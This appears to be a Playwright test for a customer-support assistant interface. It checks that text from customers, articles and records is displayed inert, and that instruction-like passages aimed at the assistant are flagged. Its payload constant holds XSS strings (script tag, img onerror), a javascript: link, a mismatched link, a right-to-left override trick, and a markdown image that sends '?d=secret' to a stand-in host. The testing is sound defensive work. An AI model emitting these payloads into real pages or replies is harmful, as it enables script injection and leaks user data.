import { ask } from './bridge.js';
import { expect, test } from './fixtures.js';
import { plantInArticles, plantOnCard } from './probes/plant-words.js';
import { stageConversation } from './probes/stage-conversation.js';

const NASTY = [
  '<img src="https://pixel.example/a.gif" onerror="window.injected = 1"><script>window.injected = 1</script>',
  '![pixel](https://pixel.example/p.gif?d=secret)',
  '[open](javascript:window.injected=1) [page](data:text/html,hi)',
  '[shop.example](https://other.example/a?b=c)',
  'pay \u202e001\u202c now',
].join(' ');

// Catches: words of a customer, an article or a record that run, load, lead away, or read in another order than they are in.
test('what others wrote is shown as text, and loads nothing', async ({ stage }) => {
  const desk = await stage.open({ play: ['01-order-status'] });
  const { page, cuecard, card, inbox, sources } = desk;
  const asked: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('cuecard://')) asked.push(request.url());
  });
  await desk.look({ layout: 'full' });
  await desk.openCard('Femke de Vries');
  const rows = await ask(page, 'conversation.list', undefined);
  const conversationId = rows.find(({ customer }) => customer.name === 'Femke de Vries')?.id ?? '';
  const inert = async (): Promise<void> => {
    await expect(page.locator('img, iframe, object, embed, a[href], video, audio')).toHaveCount(0);
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    expect(asked).toEqual([]);
  };

  let passage = '';
  await test.step('in the reply, a passage and a fact', async () => {
    passage = await plantOnCard(cuecard.app, page, { conversationId, words: NASTY });
    await expect(card.sentences.first()).toContainText('<img src="https://pixel.example/a.gif"');
    await expect(card.sentences.first()).toContainText('[open](javascript:window.injected=1)');
    await expect(card.sentences.first()).toContainText('pay ‹U+202E›001');
    await expect(card.facts).toContainText('Kept out of replies:');
    await expect(card.facts.locator('q')).toContainText('![pixel](https://pixel.example/p.gif?d=secret)');
    await expect(card.sources).toContainText('Speaks to the assistant');
    await expect(card.sources.locator('del')).toContainText('shop.example (https://other.example/a?b=c)');
    await inert();
  });

  await test.step('in an article, each link with where it leads', async () => {
    await plantInArticles(cuecard.app, passage);
    await desk.press('1');
    await expect(sources.article).toContainText('<script>window.injected = 1</script>');
    await expect(sources.article).toContainText('(https://other.example/a?b=c)');
    await expect(sources.article).toContainText('(javascript:window.injected=1)');
    await expect(sources.article).toContainText('pay ‹U+202E›001');
    await expect(sources.article.locator('mark[data-kind="instruction"]').first()).toBeVisible();
    await inert();
    await page.keyboard.press('Escape');
  });

  await test.step('in a message', async () => {
    const staged = { id: 'c-nasty', customer: 'Layla Haddad', count: 2, newest: [NASTY] };
    await stageConversation(cuecard.app, staged);
    await inbox.open('Layla Haddad');
    const last = desk.messages.getByRole('listitem').last();
    await expect(last).toContainText('<script>window.injected = 1</script>');
    await expect(last).toContainText('[shop.example](https://other.example/a?b=c)');
    await expect(last).toContainText('pay ‹U+202E›001');
    await inert();
  });
});
